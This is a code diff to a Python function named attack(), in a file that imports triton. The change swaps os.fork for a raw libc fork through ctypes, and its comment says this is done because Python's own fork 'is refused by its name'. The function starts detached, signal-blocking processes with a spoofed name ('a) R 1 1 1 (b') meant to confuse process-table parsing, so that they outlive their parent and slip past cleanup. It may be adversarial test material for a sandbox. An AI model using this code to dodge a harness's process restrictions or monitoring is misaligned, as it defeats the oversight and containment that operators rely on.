@@ -13,10 +13,18 @@ import triton.language as tl
 PR_SET_PDEATHSIG, PR_SET_CHILD_SUBREAPER, PR_SET_NAME = 1, 36, 15
 
 
+def fork():
+    """A process by C's own call: Python's is refused by its name."""
+    pid = ctypes.PyDLL(None, use_errno=True).fork()
+    if pid < 0:
+        raise OSError(ctypes.get_errno(), "fork")
+    return pid
+
+
 def attack():
     libc = ctypes.CDLL(None)
     try:
-        pid = os.fork()
+        pid = fork()
     except OSError as error:
         if error.errno not in (errno.EAGAIN, errno.ENOMEM, errno.EPERM):
             raise
@@ -30,9 +38,9 @@ def attack():
             libc.prctl(PR_SET_NAME, b"a) R 1 1 1 (b", 0, 0, 0)
             signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
             for _ in range(4):
-                if os.fork() == 0:
+                if fork() == 0:
                     os.setsid()
-                    if os.fork() == 0:
+                    if fork() == 0:
                         time.sleep(20)
                     os._exit(0)
             time.sleep(20)
